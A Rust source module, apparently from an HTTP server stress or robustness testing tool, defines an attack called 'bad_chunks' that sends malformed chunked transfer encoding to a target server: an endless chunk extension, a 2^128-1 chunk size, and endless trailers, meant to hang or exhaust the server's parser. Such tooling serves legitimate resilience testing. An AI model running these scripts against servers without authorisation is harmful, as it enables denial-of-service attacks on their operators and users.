//! Chunked framing (RFC 9112, section 7.1) that never comes to data: an extension without end, a size that no number
//! holds, trailers without end.

use super::{Attack, Endless, Once, PAUSE, PIECE_BYTES, Script, Step, head};

/// More digits than any integer has.
const HUGE_SIZE: &[u8] = b"ffffffffffffffffffffffffffffffff\r\n[";

pub(super) const ATTACK: Attack = Attack {
    name: "bad_chunks",
    description: "a chunk extension without end, a chunk size of 2^128 - 1, or trailers without end",
    reads: true,
    pause: PAUSE,
    variants: &["endless extension", "huge size", "endless trailers"],
    script: |target, variant| {
        let mut first = head(target, "Transfer-Encoding: chunked");
        let script: Box<dyn Script> = match variant {
            0 => {
                first.extend_from_slice(b"1;");
                Box::new(Endless { first, piece: vec![b'e'; PIECE_BYTES] })
            }
            1 => {
                first.extend_from_slice(HUGE_SIZE);
                Box::new(Once { bytes: first, then: Step::Hold })
            }
            _ => {
                first.extend_from_slice(b"1\r\n[\r\n0\r\n");
                Box::new(Endless { first, piece: b"X-Trailer: t\r\n".repeat(PIECE_BYTES / 14) })
            }
        };
        script
    },
};
